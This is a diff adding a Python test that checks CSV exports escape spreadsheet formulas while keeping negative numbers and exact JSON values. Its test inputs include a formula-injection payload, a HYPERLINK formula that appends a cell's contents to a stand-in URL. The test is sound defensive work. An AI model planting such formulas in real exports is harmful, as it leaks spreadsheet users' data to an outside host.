@@ -153,6 +153,39 @@ def test_release_files_are_valid_and_agree_with_each_other(real_data, db):
     assert release.cycles == [2022]
 
 
+def test_release_csv_files_neutralise_formulas_but_not_negative_numbers(real_data, db):
+    from observatorio.practices.models import PanoramaFigure
+
+    model = Program.objects.published().order_by("pk").first()
+    titles = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]
+    for number, title in enumerate(titles, start=90):
+        Program.objects.create(
+            cycle=model.cycle,
+            section=model.section,
+            objective=model.objective,
+            state=model.state,
+            number=number,
+            title=title,
+            actor=model.actor,
+            status=Program.Status.PUBLISHED,
+        )
+    figure = PanoramaFigure.objects.order_by("pk").first()
+    figure.value = -3.5
+    figure.value_as_printed = "-3.5"
+    figure.save()
+
+    files = _files(publish_release())
+
+    programs = list(csv.DictReader(io.StringIO(files["programas.csv"][1].decode("utf-8"))))
+    found = {row["title"] for row in programs}
+    assert {f"'{title}" for title in titles} <= found and not set(titles) & found
+    json_titles = {p["title"] for p in json.loads(files["programas.json"][1])["programs"]}
+    assert set(titles) <= json_titles  # the JSON is exact
+    panorama = csv.DictReader(io.StringIO(files["panorama.csv"][1].decode("utf-8")))
+    row = next(row for row in panorama if row["id"] == str(figure.pk))
+    assert (row["value"], row["value_as_printed"]) == ("-3.5", "'-3.5")
+
+
 def test_release_data_package_validates(real_data, db, tmp_path):
     frictionless = pytest.importorskip("frictionless")
     release = publish_release()
